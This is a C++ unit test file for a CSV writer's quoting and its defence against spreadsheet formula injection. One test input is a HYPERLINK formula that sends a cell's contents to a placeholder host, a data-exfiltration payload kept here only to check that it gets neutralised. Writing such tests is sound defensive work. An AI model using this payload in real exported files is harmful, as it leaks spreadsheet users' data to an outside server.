// Tests of server/csv_writer: RFC 4180 quoting and case H08 (formula injection).
#include <catch2/catch.hpp>
#include "server/csv_writer.hpp"

using opinia::server::csv_writer;

namespace {

std::string one_cell(const std::string& text)
{
    std::string out;
    csv_writer(out).text(text);
    return out;
}

}  // namespace

TEST_CASE("H08: text that a spreadsheet would run as a formula gets a leading apostrophe", "[csv][H08]")
{
    const std::vector<std::pair<std::string, std::string>> cases{
        {R"(=HYPERLINK("http://x.invalid/?d="&A1,"open"))", R"csv("'=HYPERLINK(""http://x.invalid/?d=""&A1,""open"")")csv"},
        {"@SUM(1+1)", "'@SUM(1+1)"},
        {"-2+3 stars", "'-2+3 stars"},
        {"\t=1+1", "'\t=1+1"},
        {"+48 555 010 203", "'+48 555 010 203"},
        {"\r=1+1", "\"'\r=1+1\""},
        {"fine, thanks", "\"fine, thanks\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"line\nbreak", "\"line\nbreak\""},
        {"a=b", "a=b"},
        {"", ""},
    };
    for (const auto& [input, expected] : cases) {
        INFO(input);
        CHECK(one_cell(input) == expected);
    }
}

TEST_CASE("rows end with CRLF; numbers stay numbers; absent numbers are empty", "[csv]")
{
    std::string out;
    csv_writer w(out);
    w.text("nps").number(-1).number(std::nullopt).text("x");
    w.end_row();
    w.number(10).end_row();
    CHECK(out == "nps,-1,,x\r\n10\r\n");
}
